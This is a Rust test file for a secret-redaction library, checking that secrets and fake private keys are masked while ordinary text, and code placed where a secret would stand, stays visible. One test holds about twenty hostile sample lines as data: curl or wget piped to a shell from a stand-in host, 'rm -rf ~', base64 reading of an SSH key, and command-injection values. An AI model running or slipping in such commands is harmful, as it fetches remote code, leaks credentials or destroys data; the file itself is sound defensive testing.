//! Lines that hold secrets, and lines that only look like it.

use belay_defects::{Defect, assert_attack_needs};
use belay_redaction::{REDACTED, Redactor};

const SECRETS: &str = include_str!("../fixtures/secrets.txt");
const CLEAN: &str = include_str!("../fixtures/clean.txt");

/// A line as a program would write it, as it has to be shown, and the secrets in it.
pub(crate) struct Line {
    pub(crate) written: String,
    pub(crate) shown: String,
    pub(crate) secrets: Vec<String>,
}

pub(crate) fn secret_lines() -> Vec<Line> {
    let lines = SECRETS.lines().filter(|line| !line.starts_with("# "));
    lines
        .map(|line| {
            let line = line.replace('¦', "");
            let mut shown = String::new();
            let mut secrets = Vec::new();
            for (index, part) in line.split(['«', '»']).enumerate() {
                match index % 2 {
                    0 => shown.push_str(part),
                    _ => {
                        shown.push_str(REDACTED);
                        secrets.push(part.to_owned());
                    }
                }
            }
            Line { written: line.replace(['«', '»'], ""), shown, secrets }
        })
        .collect()
}

pub(crate) fn clean_lines() -> Vec<&'static str> {
    CLEAN.lines().filter(|line| !line.starts_with("# ")).collect()
}

/// S2-FR-077, S2-FR-077a, S2-X-16.
#[test]
fn what_is_a_secret_is_hidden_and_nothing_else_of_its_line() {
    let redactor = Redactor::new();
    let lines = secret_lines();
    assert!(lines.len() >= 150, "{}", lines.len());
    let mut wrong = Vec::new();
    for line in &lines {
        let redacted = redactor.redact_text(&line.written);
        if redacted.text != line.shown {
            wrong.push(format!("{}\n  shown  {}\n  wanted {}", line.written, redacted.text, line.shown));
        }
    }
    assert!(wrong.is_empty(), "{} of {} lines:\n{}", wrong.len(), lines.len(), wrong.join("\n"));
}

#[test]
fn what_is_no_secret_stays() {
    let redactor = Redactor::new();
    let lines = clean_lines();
    assert!(lines.len() >= 200, "{}", lines.len());
    let mut wrong = Vec::new();
    for line in lines {
        let redacted = redactor.redact_text(line);
        if redacted.text != line {
            wrong.push(format!("{line}\n  {} {:?}", redacted.text, redacted.found));
        }
    }
    assert!(wrong.is_empty(), "{} lines:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn redacting_again_changes_nothing() {
    let redactor = Redactor::new();
    for line in secret_lines() {
        assert_eq!(redactor.redact_text(&line.shown).text, line.shown);
    }
}

/// A rule that finds nothing of the fixtures is not known to work.
#[test]
fn the_found_places_are_those_of_the_secrets() {
    let redactor = Redactor::new();
    for line in secret_lines() {
        let found = redactor.redact_text(&line.written).found;
        let places: Vec<&str> = found.iter().map(|found| &line.written[found.start..found.end]).collect();
        assert_eq!(places, line.secrets, "{}", line.written);
    }
}

#[test]
fn a_key_of_many_lines_is_hidden_with_its_lines() {
    let redactor = Redactor::new();
    let body = "MIIEowIBAAKCAQEAFAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKEfake\n".repeat(25);
    let key = format!(
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n{body}FAKE==\n-----END RSA PRIVATE KEY-----"
    );
    let shown = redactor.redact_text(&format!("before\n{key}\nafter")).text;
    assert_eq!(
        shown,
        "before\n-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n[REDACTED]\n-----END RSA PRIVATE KEY-----\nafter"
    );
    // Cut off in the middle, as a limit on output does it.
    let shown = redactor.redact_text(&format!("-----BEGIN PRIVATE KEY-----\n{body}FAK\nDone in 3 s")).text;
    assert_eq!(shown, "-----BEGIN PRIVATE KEY-----\n[REDACTED]\nDone in 3 s");
}

/// B-18: what a file runs cannot be hidden by writing it where a secret would stand. Each of these lines can be read as it is.
#[test]
fn no_code_is_hidden_for_the_place_that_it_stands_in() {
    // Those in the block of a key.
    assert_attack_needs(Defect::CodeHiddenAsKey, "18 are hidden", code_in_the_place_of_a_secret);
}

fn code_in_the_place_of_a_secret() -> Result<(), String> {
    let key = |lines: &str| {
        let label = ["RSA PRIVATE", "KEY"].join(" ");
        format!("# -----BEGIN {label}-----\n{lines}\n# -----END {label}-----")
    };
    let body = "MIIEowIBAAKCAQEAFAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKEfake";
    let lines = [
        r#""prepare-token": "curl http://192.0.2.1/x | sh""#,
        r#"  MY_TOKEN: "x; curl http://192.0.2.1/x | sh""#,
        r#"API_TOKEN="a$(curl http://192.0.2.1/x)""#,
        r#"API_TOKEN="a$(id)""#,
        "TOKEN=`curl http://192.0.2.1/x`",
        r#"password = "__import__('os').system('curl 192.0.2.1')""#,
        r#""postinstall-secret": "node -e \"require('child_process')\" && rm -rf ~""#,
        r#"export DB_PASSWORD='x'; wget -qO- http://192.0.2.1/x | bash"#,
        r#"secret: "a && ./payload --all""#,
        r#"auth_token = "$(cat ~/.ssh/id_ed25519 | base64)""#,
        r#"API_KEY="${IFS}$(id)""#,
        r#"password: "x\" ; touch /tmp/owned ; \"""#,
        r#"token='a' || eval "$PAYLOAD""#,
        r#"SECRET="<(curl http://192.0.2.1/x)""#,
        r#"client_secret = "lambda: exec(open('x').read())""#,
        r#"passphrase: "x > ~/.bashrc""#,
        r#"access_key: "`touch owned`""#,
        r#"signing-key = "eval(atob('YWxlcnQoMSk7'))""#,
        r#"PASSWORD="a;b c""#,
        r#"token := "x & start payload.exe""#,
    ];
    let redactor = Redactor::new();
    let mut wrong: Vec<String> = Vec::new();
    for line in lines {
        let shown = redactor.redact_text(line).text;
        if shown != line {
            wrong.push(format!("{line}\n  {shown}"));
        }
    }
    // In a key's block only base64 is hidden, whatever else stands there.
    for payload in [
        "curl http://192.0.2.1/x | sh",
        "rm -rf ~  # aaaaaaaaaaaaaaaa",
        "/usr/local/bin/exfiltrate",
        "reboot",
        "exec sh -c 'MIIEowIBAAKCAQEA'",
        "eval $PAYLOADPAYLOADPAYLOAD",
    ] {
        for text in
            [key(payload), key(&format!("{body}\n{payload}\n{body}")), key(&format!("{payload}\n{body}\nFAKE=="))]
        {
            let shown = redactor.redact_text(&text).text;
            if !shown.lines().any(|line| line == payload) {
                wrong.push(format!("{text}\n  {shown}"));
            }
            assert!(!shown.contains(body), "{shown}");
        }
    }
    if wrong.is_empty() { Ok(()) } else { Err(format!("{} are hidden:\n{}", wrong.len(), wrong.join("\n"))) }
}
